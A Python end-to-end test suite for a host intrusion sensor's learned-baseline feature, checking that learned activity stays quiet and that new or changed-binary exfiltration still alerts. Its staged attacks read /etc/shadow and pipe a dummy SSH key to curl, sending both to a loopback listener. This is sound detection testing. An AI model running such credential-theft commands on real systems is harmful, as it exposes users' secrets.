#!/usr/bin/env python3
"""End-to-end tests of learned baselines (issue 5, docs/baseline.md): the real
`barbwire learn` and `barbwire run --baseline`, real processes, loopback only.

  baseline_test.py BARBWIRE SOURCE_ROOT CASE

Each CASE is one function below; meson registers each as its own test in
suite 'e2e'. They need root and a build with the sensor; otherwise they exit
77 (skip), or 1 when CI=true.

The learned binary is a copy of the python interpreter at <workspace>/tool:
its own path, the interpreter's hash until a case appends bytes to it. The
sensor runs with its built-in rules. Other activity on the host is learned
too, and alerts are filtered to the pids the test starts.
"""
import json
import os
import shutil
import signal
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness as h  # noqa: E402
from harness import check  # noqa: E402

BW = ""
ROOT = ""

SHADOW = "/etc/shadow"


def make_tool(ws):
    """A copy of the real interpreter at <ws>/tool; returns its realpath."""
    tool = ws.path("tool")
    shutil.copy2(h.PY_REAL, tool)
    os.chmod(tool, 0o755)
    return os.path.realpath(tool)


def exfil(sensor_or_none, lst, python=None):
    """An actor (python, or the copy `python`) reads /etc/shadow, then connects to `lst`.
    Returns the actor, after its connection was accepted."""
    code = h.read_snippet(SHADOW) + h.tcp_connect_snippet("127.0.0.1", lst.port)
    actor = h.Actor(code, python=python, new_session=True)
    rep = actor.run()
    local = int(rep.get("local_port", "0"))
    check(lst.heard_from(local), f"the listener never accepted the actor's connection from port {local}")
    return actor


def read_baseline(path):
    check(os.path.exists(path), f"learn wrote no baseline file {path}")
    with open(path) as f:
        text = f.read()
    try:
        doc = json.loads(text)
    except ValueError as e:
        raise h.Failure(f"baseline {path} is not JSON ({e}): {text[:300]!r}")
    check(doc.get("version") == 1 and isinstance(doc.get("entries"), list), f"baseline shape: {text[:300]!r}")
    return doc, text


def entries_of(doc, exe):
    return [e for e in doc["entries"] if e.get("exe") == exe]


def learn(ws, base, action, duration="10m", stop=True):
    """`barbwire learn --baseline base`; ready; action(); SIGINT (when `stop`). Returns the Learner."""
    learner = h.Learner(BW, base, duration=duration)
    try:
        learner.start().wait_ready()
        check(f"learning into {base}" in learner.stderr(), f"ready line should name the file:\n{learner.stderr()}")
        action()
        if stop:
            learner.stop_cleanly()
            check(learner.stdout_lines() == [], f"learn printed on stdout: {learner.stdout_lines()}")
            summary = learner.wait_stderr("barbwire: learned ", timeout=1)
            check(summary is not None, f"no 'learned ...' summary line:\n{learner.stderr()}")
            print(summary)
    except BaseException:
        learner.kill()
        raise
    return learner


def check_tool_entry(doc, tool, sha, port):
    mine = [e for e in entries_of(doc, tool) if e.get("port") == port]
    check(len(mine) == 1, f"expected one entry for {tool} to port {port}: {entries_of(doc, tool)}")
    e = mine[0]
    want = {"exe": tool, "sha256": sha, "reader_exe": tool, "reader_sha256": sha,
            "destination": "loopback", "protocol": "tcp", "port": port}
    got = {k: e.get(k) for k in want}
    check(got == want, f"entry {got} != {want}")
    # the category is whatever the built-in rules call /etc/shadow's
    check(isinstance(e.get("category"), str) and e["category"], f"entry category: {e}")
    check(isinstance(e.get("count"), int) and e["count"] >= 1, f"entry count: {e}")
    return e


def learn_tool(ws, lst, tool):
    """Learns the tool's exfil to `lst` into <ws>/baseline.json; returns its path."""
    base = ws.path("baseline.json")
    learn(ws, base, lambda: exfil(None, lst, python=tool))
    doc, _ = read_baseline(base)
    check_tool_entry(doc, tool, h.sha256_of(tool), lst.port)
    return base


def run_with(base, *extra):
    s = h.Sensor(BW, None, extra=("--baseline", base, *extra))
    s.start().wait_ready()
    check(f"baseline: {base}" in s.stderr(), f"ready line should name the baseline:\n{s.stderr()}")
    return s


# --------------------------------------------------------------------------- cases

def case_learned_is_quiet():
    """(a) learned: the tool's exfil to loopback is suppressed; the real python's still alerts."""
    h.require_root_and_sensor()
    ws, lst, sensor = h.Workspace(), h.TcpListener("127.0.0.1"), None
    try:
        tool = make_tool(ws)
        base = learn_tool(ws, lst, tool)
        sensor = run_with(base)
        quiet = exfil(sensor, lst, python=tool)
        loud = exfil(sensor, lst)  # the real interpreter: another path, never learned by this test
        got = sensor.wait_alert(loud.pid)
        check(len(got) == 1, f"the real python's exfil must alert: {got}\n{sensor.stderr()}")
        a = got[0]
        check(a.get("baseline") == "new", f"baseline field of a new correlation: {a}")
        check(a["process"]["exe"] == h.PY_REAL and a["file"]["path"] == SHADOW, f"alert: {a}")
        check(a["destination"]["port"] == lst.port, f"alert destination: {a}")
        # the real python's events came after the tool's: those are processed by now
        check(sensor.alerts(quiet.pid) == [], f"the learned tool alerted: {sensor.alerts(quiet.pid)}")
        sensor.stop_cleanly()
        summary = sensor.wait_stderr(f"barbwire: baseline {base}: ", timeout=1)
        check(summary is not None and "suppressed" in summary, f"summary line:\n{sensor.stderr()}")
        seen = int(summary.split(": ", 2)[2].split(" seen")[0])
        check(seen >= 1, f"at least the tool's correlation was seen: {summary}")
        print(summary)

        # down-score mode: the file's points are withdrawn; bash's +2 alone is below the threshold
        sensor = run_with(base, "--baseline-mode", "downscore")
        quiet = exfil(sensor, lst, python=tool)
        loud = exfil(sensor, lst)
        check(len(sensor.wait_alert(loud.pid)) == 1, f"control alert under downscore:\n{sensor.stderr()}")
        check(sensor.alerts(quiet.pid) == [], f"downscored below the threshold, yet: {sensor.alerts(quiet.pid)}")
        sensor.stop_cleanly()
    finally:
        if sensor is not None:
            sensor.kill()
        lst.close()
        ws.cleanup()


def case_changed_binary_alerts():
    """(b) the same action by the learned tool after its hash changed is alerted, as a changed binary."""
    h.require_root_and_sensor()
    ws, lst, sensor = h.Workspace(), h.TcpListener("127.0.0.1"), None
    try:
        tool = make_tool(ws)
        old_sha = h.sha256_of(tool)
        base = learn_tool(ws, lst, tool)
        with open(tool, "ab") as f:
            f.write(b"\0barbwire-e2e: the binary changed\n")
        new_sha = h.sha256_of(tool)
        check(new_sha != old_sha, "appending bytes did not change the hash")
        sensor = run_with(base)
        actor = exfil(sensor, lst, python=tool)
        got = sensor.wait_alert(actor.pid)
        check(len(got) == 1, f"the changed tool's exfil must alert: {got}\n{sensor.stderr()}")
        a = got[0]
        check(a["process"]["exe"] == tool and a["process"]["sha256"] == new_sha, f"alert process: {a['process']}")
        check(a.get("baseline") == "changed binary", f"baseline field: {a}")
        want = f"baseline: {tool} changed (sha256 {new_sha[:16]}, learned {old_sha[:16]})"
        check(want in a["reasons"], f"reasons {a['reasons']} lack {want!r}")
        check(a["score"] == sum(p["points"] for p in a["score_breakdown"]), f"breakdown sums to the score: {a}")
        check(a["score"] >= 3, f"a changed binary keeps its score: {a}")
        sensor.stop_cleanly()
    finally:
        if sensor is not None:
            sensor.kill()
        lst.close()
        ws.cleanup()


def case_merge_and_sigkill():
    """(c) repeated learning merges into the file; a SIGKILL during learn leaves the old file intact."""
    h.require_root_and_sensor()
    ws = h.Workspace()
    lst1, lst2, lst3 = h.TcpListener("127.0.0.1"), h.TcpListener("127.0.0.1"), h.TcpListener("127.0.0.1")
    learner = None
    try:
        tool = make_tool(ws)
        sha = h.sha256_of(tool)
        base = learn_tool(ws, lst1, tool)
        doc1, _ = read_baseline(base)
        first = check_tool_entry(doc1, tool, sha, lst1.port)

        # second run: ends by itself after --duration; both ports are in the file, port 1 counted again
        learner = learn(ws, base, lambda: (exfil(None, lst2, python=tool), exfil(None, lst1, python=tool)),
                        duration="6s", stop=False)
        learner.proc.wait(60)
        learner.stop()
        check(learner.rc == 0, f"learn exit {learner.rc} after --duration:\n{learner.stderr()}")
        check(learner.wait_stderr("barbwire: learned ", timeout=1), f"no summary:\n{learner.stderr()}")
        learner = None
        doc2, text2 = read_baseline(base)
        check_tool_entry(doc2, tool, sha, lst2.port)
        again = check_tool_entry(doc2, tool, sha, lst1.port)
        check(again["count"] >= first["count"] + 1, f"merge adds counts: {first} then {again}")
        for e in doc1["entries"]:
            key = {k: v for k, v in e.items() if k != "count"}
            check(any({k: v for k, v in x.items() if k != "count"} == key for x in doc2["entries"]),
                  f"an entry of the first run was lost by the merge: {e}")

        # third run: SIGKILL while learning; the file is exactly the second run's, and no temp file is left
        learner = learn(ws, base, lambda: exfil(None, lst3, python=tool), stop=False)
        time.sleep(0.5)
        learner.proc.send_signal(signal.SIGKILL)
        learner.proc.wait(10)
        learner.kill()
        learner = None
        doc3, text3 = read_baseline(base)
        check(text3 == text2, "the baseline changed after a SIGKILL during learn")
        check(entries_of(doc3, tool) and not [e for e in doc3["entries"] if e.get("port") == lst3.port],
              f"the killed run's learning reached the file: {doc3}")
        left = [n for n in os.listdir(ws.dir) if n.startswith(".baseline.json.tmp")]
        check(left == [], f"temporary files left behind: {left}")
        # and the file is still one `run --baseline` accepts
        sensor = run_with(base)
        sensor.stop_cleanly()
    finally:
        if learner is not None:
            learner.kill()
        for l in (lst1, lst2, lst3):
            l.close()
        ws.cleanup()


def case_bad_baseline_refused():
    """run --baseline with a missing or corrupt file, and learn into a corrupt one: one line, exit 2."""
    h.require_root_and_sensor()
    ws = h.Workspace()
    try:
        bad = h.write_file(ws.path("bad.json"), '{"version": 1, "entries": [{"exe": "x"}]}')
        for args in (["run", "--baseline", ws.path("missing.json")], ["run", "--baseline", bad],
                     ["learn", "--duration", "1m", "--baseline", bad]):
            s = h.Sensor(BW, None)
            s.args = [BW, *args]
            s.start()
            rc = s.proc.wait(60)
            s.stop()
            lines = [l for l in s.stderr_lines() if l.strip()]
            check(rc == 2 and len(lines) == 1 and lines[0].startswith("barbwire: "),
                  f"{args}: expected one error line and exit 2, got {rc}: {lines}")
            check(args[-1] in lines[0], f"{args}: the error should name the file: {lines[0]}")
        with open(bad) as f:
            check(f.read() == '{"version": 1, "entries": [{"exe": "x"}]}', "learn touched a corrupt baseline")
    finally:
        ws.cleanup()


def case_benign_learned_attacks_caught():
    """Issue 5: learn over everyday work (curl with its .netrc to a local server, getent,
    id), then run --baseline: the same work is quiet, and the attacks still alert, as new."""
    h.require_root_and_sensor()
    curl = shutil.which("curl", path="/usr/bin:/bin")
    if curl is None:
        h.skip_or_fail("curl is not installed (apt-get install curl)")
    ws, lst, sensor = h.Workspace(), h.HttpListener("127.0.0.1"), None
    try:
        home = ws.path("home")
        os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
        h.write_file(os.path.join(home, ".ssh", "id_rsa"), "barbwire-e2e dummy key, not a real one\n", mode=0o600)
        h.write_file(os.path.join(home, ".netrc"), "machine 127.0.0.1 login e2e password not-a-real-one\n",
                     mode=0o600)
        env = {"PATH": "/usr/bin:/bin", "LANG": "C", "HOME": home}
        url = f"http://127.0.0.1:{lst.port}"
        benign = (f'curl -s -o /dev/null {url}/index; getent passwd root >/dev/null; id >/dev/null; '
                  f'whoami >/dev/null; curl -s --netrc-file "$HOME/.netrc" -d hello {url}/up >/dev/null')
        base = ws.path("baseline.json")
        learn(ws, base, lambda: h.Shell(benign, env=env).wait())
        doc, _ = read_baseline(base)
        learned = entries_of(doc, os.path.realpath(curl))
        print(f"learned for curl: {learned}")

        sensor = run_with(base)
        work = h.Shell(benign, env=env)
        work.wait()
        # attack 1: the interpreter reads /etc/shadow and connects
        actor = exfil(sensor, lst)
        got = sensor.wait_alert(actor.pid)
        check(len(got) == 1 and got[0].get("baseline") == "new", f"shadow exfil under the baseline: {got}")
        # attack 2: a pipeline sends the key with the curl the baseline learned
        sh = h.Shell(f'cat "$HOME/.ssh/id_rsa" | curl -s --data-binary @- {url}/k >/dev/null', env=env)
        sh.wait()
        check(lst.received(b"barbwire-e2e dummy key"), "the pipeline's upload never arrived")
        got = sensor.wait_for(lambda a: h.in_session(a, sh.leader), timeout=h.ALERT_TIMEOUT)
        check(len(got) >= 1, f"the pipeline exfil with a learned curl must alert:\n{sensor.stderr()}")
        a = got[0]
        check(a.get("baseline") == "new" and a["process"]["exe"] == os.path.realpath(curl),
              f"pipeline alert: {a}")
        # the everyday work ran before the attacks, so its events are processed by now
        quiet = sensor.alerts_in_session(work.leader)
        check(quiet == [], f"the learned everyday work alerted under the baseline: {quiet}")
        sensor.stop_cleanly()
    finally:
        if sensor is not None:
            sensor.kill()
        lst.close()
        ws.cleanup()


# --------------------------------------------------------------------------- driver

if __name__ == "__main__":
    sys.exit(h.run_cases(globals(), __doc__, "baseline_test"))
